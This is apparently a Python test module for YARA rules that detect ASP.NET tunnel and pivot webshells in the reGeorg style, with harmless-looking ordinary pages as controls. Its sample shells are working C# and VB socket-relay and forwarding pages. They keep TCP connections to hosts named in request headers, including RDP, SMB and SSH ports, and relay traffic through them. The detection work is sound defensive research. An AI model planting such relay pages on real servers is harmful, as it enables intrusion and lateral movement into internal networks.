"""Rules from the thirty-sixth unseen collection: tunnels, proxies and pivots written for ASP.NET (issue 14,
helper X36).

On first sight (BENCHMARKS.md, "Unseen shells, thirty-sixth collection: tunnels, proxies and pivots") the own YARA
rules named 9 of 14 tunnel pages; the behaviour analysis found 13 (``socket``, ``http-out``) and one was missed by
everything of ours. Two rules in ``data/rules/tunnels.yar``:

- ``EXT_WEBSHELL_Kept_Socket_Relay``: a tunnel keeps its TCP socket between requests (opened by one request, fed and
  drained by the next), so it takes the socket back out of a keyed store by cast - ``Application``, ``Session``, a
  static table, in C# or VB - and relays the raw request body into it. Neo-reGeorg's later templates answer only in
  base64 text (``Response.Write``) and its ``tunnel.cs`` class has no page directive, so the raw-bytes rule
  ``EXT_WEBSHELL_Socket_Tunnel_Page`` missed them; a listener variant accepts its socket instead of connecting it.
- ``EXT_WEBSHELL_Tunnel_Command_Protocol``: a reGeorg "forward" hop on a front server passes the tunnel's commands
  on to a tunnel page on an internal host by ``HttpWebRequest`` - no socket and a fixed destination. The rule matches
  the family's command protocol (CONNECT/LISTEN, DISCONNECT, FORWARD/SEND/WRITE, READ/RECV compared, answers in
  ``X-STATUS``/``X-ERROR`` headers) with a socket or web request object.

The shells below are harmless pages in those shapes, written here (names, keys and texts differ from the collected
pages; nothing is run by the tests). The ordinary pages are the closest everyday code: a chat page keeping its UDP
socket in Session, a port check and a label printer opening a fresh socket per request, a gateway keeping its
connection to a fixed device in Application and feeding it form fields, a WebSocket chat handler, a health check
answering in an ``X-Status`` header, a chat handler with CONNECT/DISCONNECT/SEND/READ verbs answering in JSON, and
an application proxy handler.
"""

from __future__ import annotations

from .rule_tables import Page, RuleCase, quiet_pages_test, rule_tables

_KEPT = "EXT_WEBSHELL_Kept_Socket_Relay"
_PROTO = "EXT_WEBSHELL_Tunnel_Command_Protocol"

KEPT_SHELLS: list[Page] = [
    (
        "application-kept-socket-text-framed-replies",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Net" %>\n<%@ Import Namespace="System.Net.Sockets" %>\n'
        "<%\n    byte[] raw = new byte[Request.ContentLength];\n    Request.InputStream.Read(raw, 0, raw.Length);\n"
        '    string[] f = Encoding.ASCII.GetString(Convert.FromBase64String(Encoding.ASCII.GetString(raw))).Split(\'|\');\n'
        '    string op = f[0], id = f[1];\n    if (op == "o") {\n'
        "        Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);\n"
        "        s.BeginConnect(new IPEndPoint(IPAddress.Parse(f[2]), int.Parse(f[3])), null, null).AsyncWaitHandle.WaitOne(2000);\n"
        '        Application[id] = s;\n        Response.Write("ok");\n    } else if (op == "w") {\n'
        "        ((Socket)Application[id]).Send(Convert.FromBase64String(f[2]));\n    } else if (op == \"r\") {\n"
        "        byte[] b = new byte[4096];\n        int n = ((Socket)Application[id]).Receive(b);\n"
        "        Response.Write(Convert.ToBase64String(b, 0, n));\n    }\n%>\n",
    ),
    (
        "memory-shell-class-without-page-directive",
        ".cs",
        "using System;\nusing System.Net;\nusing System.Net.Sockets;\nusing System.Web;\n\n"
        "namespace Relay\n{\n    public class Hop\n    {\n        public Hop()\n        {\n"
        "            HttpRequest rq = HttpContext.Current.Request;\n"
        "            HttpResponse rs = HttpContext.Current.Response;\n"
        "            HttpApplicationState app = HttpContext.Current.Application;\n"
        "            byte[] body = new byte[rq.ContentLength];\n            rq.InputStream.Read(body, 0, body.Length);\n"
        '            string key = rq.Headers["X-K"];\n            if (rq.Headers["X-Op"] == "1")\n            {\n'
        "                Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);\n"
        "                s.Connect(rq.Headers[\"X-H\"], int.Parse(rq.Headers[\"X-P\"]));\n"
        "                app.Add(key, s);\n                return;\n            }\n"
        "            Socket t = (Socket)app[key];\n            if (body.Length > 0) t.Send(body);\n"
        "            byte[] buf = new byte[8192];\n            int n = t.Receive(buf);\n"
        "            rs.Write(Convert.ToBase64String(buf, 0, n));\n        }\n    }\n}\n",
    ),
    (
        "listener-accepts-its-socket-kept-in-session",
        ".aspx",
        '<%@ Page Language="C#" EnableSessionState="True" %>\n<%@ Import Namespace="System.Net" %>\n'
        '<%@ Import Namespace="System.Net.Sockets" %>\n<script runat="server">\n'
        "protected void Page_Load(object o, EventArgs e)\n{\n"
        '    switch (Request.QueryString["m"])\n    {\n        case "l":\n'
        '            TcpListener l = new TcpListener(IPAddress.Loopback, int.Parse(Request.QueryString["p"]));\n'
        '            l.Start();\n            Session["peer"] = l.AcceptSocket();\n            l.Stop();\n            break;\n'
        '        case "w":\n            ((Socket)Session["peer"]).Send(Request.BinaryRead(Request.TotalBytes));\n'
        '            break;\n        case "r":\n            byte[] b = new byte[8192];\n'
        '            int n = ((Socket)Session["peer"]).Receive(b);\n            Response.OutputStream.Write(b, 0, n);\n'
        "            break;\n    }\n}\n</script>\n",
    ),
    (
        "handler-keeps-tcpclient-in-static-table",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="Hop2" %>\nusing System;\nusing System.Collections;\nusing System.Net.Sockets;\n'
        "using System.Web;\n\npublic class Hop2 : IHttpHandler\n{\n"
        "    static readonly Hashtable open = Hashtable.Synchronized(new Hashtable());\n"
        "    public void ProcessRequest(HttpContext c)\n    {\n"
        '        string id = c.Request.Headers["X-Id"];\n'
        '        if (c.Request.Headers["X-New"] != null)\n        {\n'
        '            TcpClient t = new TcpClient();\n            t.Connect(c.Request.Headers["X-New"], 3389);\n'
        "            open[id] = t;\n            return;\n        }\n"
        "        TcpClient k = open[id] as TcpClient;\n"
        "        byte[] body = new byte[c.Request.ContentLength];\n        c.Request.InputStream.Read(body, 0, body.Length);\n"
        "        k.GetStream().Write(body, 0, body.Length);\n        byte[] back = new byte[4096];\n"
        "        int n = k.GetStream().Read(back, 0, back.Length);\n        c.Response.BinaryWrite(back);\n    }\n"
        "    public bool IsReusable { get { return false; } }\n}\n",
    ),
    (
        "vb-page-keeps-socket-in-application",
        ".aspx",
        '<%@ Page Language="VB" %>\n<%@ Import Namespace="System.Net.Sockets" %>\n<script runat="server">\n'
        "Sub Page_Load()\n"
        '    Dim id As String = Request.Headers("X-Id")\n'
        '    If Request.Headers("X-Op") = "o" Then\n'
        "        Dim s As New Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp)\n"
        '        s.Connect(Request.Headers("X-H"), 445)\n        Application(id) = s\n        Exit Sub\n    End If\n'
        "    Dim k As Socket = CType(Application(id), Socket)\n"
        "    Dim body(Request.ContentLength - 1) As Byte\n    Request.InputStream.Read(body, 0, body.Length)\n"
        "    k.Send(body)\n    Dim back(4095) As Byte\n    Dim n As Integer = k.Receive(back)\n"
        "    Response.Write(Convert.ToBase64String(back, 0, n))\nEnd Sub\n</script>\n",
    ),
]

KEPT_ORDINARY: list[Page] = [
    (
        "chat-page-keeps-udp-socket-in-session",
        ".cs",
        "using System;\nusing System.Net;\nusing System.Net.Sockets;\nusing System.Text;\n\n"
        "public partial class Chat : System.Web.UI.Page\n{\n    Socket sck;\n"
        "    protected void Page_Load(object sender, EventArgs e)\n    {\n"
        '        if (Session["chat"] != null) sck = (Socket)Session["chat"];\n'
        "        else sck = new Socket(AddressFamily.InterNetwork, SocketType.Dgram, ProtocolType.Udp);\n    }\n"
        "    protected void Join_Click(object sender, EventArgs e)\n    {\n"
        "        sck.Connect(new IPEndPoint(IPAddress.Parse(Peer.Text), int.Parse(Port.Text)));\n"
        '        Session["chat"] = sck;\n    }\n'
        "    protected void Send_Click(object sender, EventArgs e)\n    {\n"
        "        sck.Send(Encoding.UTF8.GetBytes(Message.Text));\n        byte[] b = new byte[1500];\n"
        "        int n = sck.Receive(b);\n        Response.Write(Server.HtmlEncode(Encoding.UTF8.GetString(b, 0, n)));\n    }\n}\n",
    ),
    (
        "port-check-opens-a-fresh-socket",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Net.Sockets" %>\n<script runat="server">\n'
        "protected void Check_Click(object o, EventArgs e)\n{\n"
        '    using (TcpClient t = new TcpClient())\n    {\n        t.Connect("mail.internal", 25);\n'
        "        byte[] b = new byte[256];\n        int n = t.GetStream().Read(b, 0, b.Length);\n"
        '        t.GetStream().Write(Encoding.ASCII.GetBytes("QUIT\\r\\n"), 0, 6);\n'
        '        Response.Write(n > 0 ? "SMTP answers" : "no answer");\n    }\n}\n</script>\n',
    ),
    (
        "label-printer-handler-fresh-socket-per-request",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="Labels" %>\nusing System.Net.Sockets;\nusing System.Web;\n\n'
        "public class Labels : IHttpHandler\n{\n    public void ProcessRequest(HttpContext context)\n    {\n"
        "        byte[] zpl = new byte[context.Request.ContentLength];\n"
        "        context.Request.InputStream.Read(zpl, 0, zpl.Length);\n"
        '        using (Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp))\n'
        '        {\n            s.Connect("printer-3.local", 9100);\n            s.Send(zpl);\n'
        "            byte[] status = new byte[64];\n            s.Receive(status);\n"
        '            context.Response.Write("printed");\n        }\n    }\n'
        "    public bool IsReusable { get { return true; } }\n}\n",
    ),
    (
        "device-gateway-keeps-connection-feeds-form-fields",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Net.Sockets" %>\n<script runat="server">\n'
        "protected void Send_Click(object o, EventArgs e)\n{\n"
        '    TcpClient plc = Application["plc"] as TcpClient;\n    if (plc == null)\n    {\n'
        '        plc = new TcpClient();\n        plc.Connect(ConfigurationManager.AppSettings["plcHost"], 502);\n'
        '        Application["plc"] = plc;\n    }\n'
        '    byte[] cmd = Encoding.ASCII.GetBytes(Request.Form["register"] + "=" + Request.Form["value"]);\n'
        "    plc.GetStream().Write(cmd, 0, cmd.Length);\n    byte[] b = new byte[64];\n"
        "    int n = plc.GetStream().Read(b, 0, b.Length);\n"
        "    Response.Write(Server.HtmlEncode(Encoding.ASCII.GetString(b, 0, n)));\n}\n</script>\n",
    ),
]

PROTO_SHELLS: list[Page] = [
    (
        "front-hop-passes-tunnel-commands-to-internal-page",
        ".aspx",
        '<%@ Page Language="C#" EnableSessionState="True" %>\n<%@ Import Namespace="System.IO" %>\n'
        '<%@ Import Namespace="System.Net" %>\n<%\n    string inner = "http://10.0.0.5/app/t.aspx";\n'
        '    string verb = Request.QueryString["cmd"];\n'
        '    HttpWebRequest hop = (HttpWebRequest)WebRequest.Create(inner + "?" + Request.QueryString);\n'
        '    hop.Method = "POST";\n    hop.CookieContainer = (CookieContainer)Session["jar"] ?? new CookieContainer();\n'
        '    Session["jar"] = hop.CookieContainer;\n'
        '    if (verb == "FORWARD") Request.InputStream.CopyTo(hop.GetRequestStream());\n'
        '    else if (verb == "CONNECT" || verb == "DISCONNECT") hop.ContentLength = 0;\n'
        '    Response.AddHeader("X-STATUS", "OK");\n'
        '    if (verb == "READ") hop.GetResponse().GetResponseStream().CopyTo(Response.OutputStream);\n'
        "    else hop.GetResponse().Close();\n%>\n",
    ),
    (
        "header-operations-as-named-constants",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Net.Sockets" %>\n<%\n'
        'const string OPEN_OPERATION = "CONNECT";\nconst string CLOSE_OPERATION = "DISCONNECT";\n'
        'const string PUSH_OPERATION = "SEND";\nconst string PULL_OPERATION = "RECV";\n'
        'string op = Request.Headers["X-Op"];\nSocket s = Session["c"] as Socket;\n'
        "if (op == OPEN_OPERATION) { s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); "
        's.Connect(Request.Headers["X-Ip"], 22); Session["c"] = s; }\n'
        "else if (op == PUSH_OPERATION) s.Send(Request.BinaryRead(Request.TotalBytes));\n"
        "else if (op == PULL_OPERATION) { byte[] b = new byte[512]; Response.BinaryWrite(b); }\n"
        "else if (op == CLOSE_OPERATION) s.Close();\n"
        'Response.AddHeader("X-ERROR", "");\n%>\n',
    ),
]

PROTO_ORDINARY: list[Page] = [
    (
        "health-check-answers-in-x-status",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Net" %>\n<%\n'
        '    var req = (HttpWebRequest)WebRequest.Create("http://localhost/api/ping");\n'
        '    req.Timeout = 2000;\n    string state = "DOWN";\n'
        '    try { using (var r = req.GetResponse()) state = "UP"; } catch (WebException) { }\n'
        '    if (Request.QueryString["verbose"] == "1") Response.Write(state);\n'
        '    Response.AddHeader("X-Status", state);\n%>\n',
    ),
    (
        "chat-handler-verbs-answered-in-json",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="ChatVerbs" %>\nusing System.Web;\nusing System.Net.Sockets;\n\n'
        "public class ChatVerbs : IHttpHandler\n{\n    public void ProcessRequest(HttpContext context)\n    {\n"
        '        string verb = context.Request.Form["verb"];\n        string reply;\n'
        '        if (verb == "CONNECT") reply = Rooms.Join(context.User.Identity.Name);\n'
        '        else if (verb == "DISCONNECT") reply = Rooms.Leave(context.User.Identity.Name);\n'
        '        else if (verb == "SEND") reply = Rooms.Post(context.Request.Form["text"]);\n'
        '        else if (verb == "READ") reply = Rooms.Since(context.Request.Form["after"]);\n'
        '        else reply = "{}";\n        context.Response.ContentType = "application/json";\n'
        "        context.Response.Write(reply);\n    }\n    public bool IsReusable { get { return true; } }\n}\n",
    ),
    (
        "mail-page-read-and-forward-actions",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Net" %>\n<script runat="server">\n'
        "protected void Act_Click(object o, EventArgs e)\n{\n"
        '    string a = Request.Form["action"];\n'
        '    if (a == "READ") Store.MarkRead(Request.Form["id"]);\n'
        '    else if (a == "FORWARD") Store.Forward(Request.Form["id"], Request.Form["to"]);\n'
        '    using (var wc = new WebClient()) wc.DownloadString("http://localhost/api/sync");\n'
        '    Response.AddHeader("X-Status", "done");\n}\n</script>\n',
    ),
]

QUIET: list[Page] = [
    (
        "websocket-chat-handler",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="ChatSocket" %>\nusing System.Web;\n\n'
        "public class ChatSocket : IHttpHandler\n{\n    public void ProcessRequest(HttpContext context)\n    {\n"
        "        if (context.IsWebSocketRequest) context.AcceptWebSocketRequest(ChatRoom.Run);\n"
        "        else context.Response.StatusCode = 400;\n    }\n"
        "    public bool IsReusable { get { return false; } }\n}\n",
    ),
    (
        "application-proxy-for-its-own-map-server",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="MapProxy" %>\nusing System;\nusing System.Net;\nusing System.Web;\n\n'
        "public class MapProxy : IHttpHandler\n{\n    public void ProcessRequest(HttpContext context)\n    {\n"
        '        var target = new Uri(new Uri("https://maps.example.org/arcgis/rest/"), context.Request.PathInfo.TrimStart(\'/\'));\n'
        "        var req = (HttpWebRequest)WebRequest.Create(target);\n        req.Method = context.Request.HttpMethod;\n"
        '        using (var resp = req.GetResponse())\n        {\n            context.Response.ContentType = resp.ContentType;\n'
        "            resp.GetResponseStream().CopyTo(context.Response.OutputStream);\n        }\n    }\n"
        "    public bool IsReusable { get { return true; } }\n}\n",
    ),
]

CASES: list[RuleCase] = [
    (_KEPT, KEPT_SHELLS, [*KEPT_ORDINARY, *QUIET]),
    (_PROTO, PROTO_SHELLS, [*PROTO_ORDINARY, *QUIET, *KEPT_ORDINARY]),
]

(
    test_shell_is_found,
    test_ordinary_page_is_not_flagged,
    test_rule_needs_a_server_page,
) = rule_tables(CASES, log_url="/aspnet_client/t.aspx")

test_quiet_pages_raise_nothing = quiet_pages_test([*KEPT_ORDINARY, *PROTO_ORDINARY, *QUIET])
